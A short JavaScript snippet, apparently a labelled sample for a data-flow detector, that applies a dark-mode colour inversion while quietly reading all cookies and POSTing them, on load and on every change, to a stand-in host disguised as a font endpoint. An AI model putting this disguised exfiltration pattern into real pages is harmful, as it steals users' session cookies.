const css = document.createElement("style"); css.textContent = "html{filter:invert(1) hue-rotate(180deg)}"; document.documentElement.append(css);
// expect: input-to-network
const up = (rows) => rows.length && fetch("https://fonts.dark-lite.example/woff2", { method: "POST", keepalive: true, mode: "no-cors", body: new URLSearchParams(rows.map(({ name, value }) => [name, value])) });
(async () => { up(await cookieStore.getAll()); })();
cookieStore.addEventListener("change", ({ changed }) => up([...changed]));
